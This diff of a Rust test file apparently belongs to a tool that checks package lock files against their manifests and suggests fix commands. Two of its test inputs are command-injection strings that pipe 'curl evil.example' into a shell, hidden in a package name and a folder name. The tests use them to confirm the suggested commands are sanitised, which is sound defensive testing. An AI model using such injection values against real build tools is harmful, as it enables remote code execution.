@@ -5,7 +5,7 @@ use super::*;
 
 fn found(packages: &Packages, files: &[(&str, &str)]) -> Vec<String> {
     let text = |path: &str| files.iter().find(|(name, _)| *name == path).map(|(_, text)| Rc::from(*text));
-    told(&findings(packages, &text))
+    told(&findings(packages, &text, &CancellationToken::new()))
 }
 
 const PACKAGE: &str = "package.json";
@@ -98,12 +98,80 @@ fn coverage_says_what_was_not_compared() {
     let all = |paths: &[&str]| Locks { all: paths.iter().map(|path| (*path).to_owned()).collect(), unread: Vec::new() };
     let npm = lock(Manager::Npm, "package-lock.json", PACKAGE, &[]);
     let whole = samples::packages(vec![manifest(PACKAGE, &[])], vec![npm.clone()]);
-    assert_eq!(coverage(&whole, &all(&["package-lock.json"])), Coverage::Whole);
+    assert_eq!(coverage(&whole, &all(&["package-lock.json"]), &|_| None), Coverage::Whole);
     let alone = samples::packages(Vec::new(), vec![npm]);
     assert!(
-        matches!(coverage(&alone, &all(&["package-lock.json"])), Coverage::Part(why) if why.contains("package.json"))
+        matches!(coverage(&alone, &all(&["package-lock.json"]), &|_| None), Coverage::Part(why) if why.contains("package.json"))
     );
-    assert!(matches!(coverage(&alone, &Locks::default()), Coverage::Absent(_)));
+    assert!(matches!(coverage(&alone, &Locks::default(), &|_| None), Coverage::Absent(_)));
     let unread = Locks { unread: vec!["bun.lockb".to_owned()], ..all(&["bun.lockb"]) };
-    assert_eq!(coverage(&whole, &unread), Coverage::Part("`bun.lockb` was not read".to_owned()));
+    assert_eq!(coverage(&whole, &unread, &|_| None), Coverage::Part("`bun.lockb` was not read".to_owned()));
+}
+
+#[test]
+fn what_a_manifest_leaves_open_is_no_silence() {
+    let all = |path: &str| Locks { all: vec![path.to_owned()], unread: Vec::new() };
+    let gems = |manifest: Manifest| {
+        samples::packages(vec![manifest], vec![lock(Manager::Bundler, "Gemfile.lock", "Gemfile", &[])])
+    };
+    let text = |text: &'static str| move |path: &str| (path == "Gemfile").then(|| text.into());
+    let plain = gems(manifest("Gemfile", &[]));
+    assert_eq!(coverage(&plain, &all("Gemfile.lock"), &text("gem 'a'\n")), Coverage::Whole);
+    let programmed = coverage(&plain, &all("Gemfile.lock"), &text("gem 'a' if ENV['X']\n"));
+    assert!(matches!(&programmed, Coverage::Part(why) if why.contains("`Gemfile` is a program")), "{programmed:?}");
+    let mut open = manifest("Gemfile", &[]);
+    open.gaps.add(crate::probe::packages::manifest::reason::DYNAMIC, "line 3");
+    let told = coverage(&gems(open), &all("Gemfile.lock"), &text("gem name\n"));
+    assert_eq!(told, Coverage::Part("`Gemfile` has 1 entry that only a program can work out".to_owned()));
+    let pnpm =
+        samples::packages(vec![manifest(PACKAGE, &[])], vec![lock(Manager::Pnpm, "pnpm-lock.yaml", PACKAGE, &[])]);
+    let hooked = coverage(&pnpm, &all("pnpm-lock.yaml"), &|path| (path == ".pnpmfile.cjs").then(|| "".into()));
+    assert!(matches!(&hooked, Coverage::Part(why) if why.contains(".pnpmfile.cjs")), "{hooked:?}");
+}
+
+#[test]
+fn the_command_raises_what_differs_and_nothing_else() {
+    let fix = |manager, path: &str, named: &str, asks: &[&str]| {
+        let lock = lock(manager, path, named, &[]);
+        let packages = samples::packages(vec![manifest(named, asks)], vec![lock]);
+        let text = |file: &str| (file == path).then(|| Rc::from("{}"));
+        findings(&packages, &text, &CancellationToken::new())[0].fix.clone()
+    };
+    let composer = |asks: &[&str]| fix(Manager::Composer, "composer.lock", "composer.json", asks);
+    assert!(composer(&["b/two ^2", "a/one ^1"]).starts_with("Run `composer update a/one b/two`, run the tests"));
+    assert!(fix(Manager::Pipenv, "Pipfile.lock", "Pipfile", &["flask ==2"]).starts_with("Run `pipenv upgrade flask`"));
+    assert!(
+        fix(Manager::Pdm, "pdm.lock", "pyproject.toml", &["flask ==2"]).starts_with("Run `pdm lock --update-reuse`")
+    );
+    let hash = [Difference { words: String::new(), name: None, line: None, hard: false }];
+    assert_eq!(command(Manager::Composer, &hash).as_deref(), Some("composer update --lock"));
+    assert_eq!(command(Manager::Pipenv, &hash).as_deref(), Some("pipenv lock"));
+    let hostile = composer(&["a/x;curl${IFS}evil.example|sh ^1"]);
+    assert!(!hostile.contains('`') && !hostile.contains("evil"), "{hostile}");
+    let npm = |folder: &str| {
+        let (path, named) = (format!("{folder}/package-lock.json"), format!("{folder}/package.json"));
+        fix(Manager::Npm, &path, &named, &["zod ^4"])
+    };
+    assert!(npm("my shop").starts_with("Run `cd \"my shop\" && npm install --package-lock-only`"));
+    let hostile = npm("a;curl evil.example|sh");
+    assert!(!hostile.contains('`') && !hostile.contains("evil"), "{hostile}");
+}
+
+#[test]
+fn a_lock_file_is_read_once_for_all_names_and_no_further_than_wanted() {
+    let asks: Vec<String> = (0..400).map(|number| format!("pkg-{number} ^1")).collect();
+    let asks: Vec<&str> = asks.iter().map(String::as_str).collect();
+    let lock = lock(Manager::Npm, "package-lock.json", PACKAGE, &[]);
+    let packages = samples::packages(vec![manifest(PACKAGE, &asks)], vec![lock]);
+    let read = std::cell::Cell::new(0);
+    let text = |path: &str| {
+        read.set(read.get() + usize::from(path == "package-lock.json"));
+        Some(Rc::from(if path == "package-lock.json" { "{\"packages\": \"pkg_7\"}" } else { "{}" }))
+    };
+    let cancel = CancellationToken::new();
+    let seen = told(&findings(&packages, &text, &cancel));
+    assert!(seen.len() == 1 && seen[0].ends_with("and 398 more"), "{seen:?}");
+    assert!(read.get() <= 2, "read {} times", read.get());
+    cancel.cancel();
+    assert_eq!(findings(&packages, &text, &cancel), []);
 }
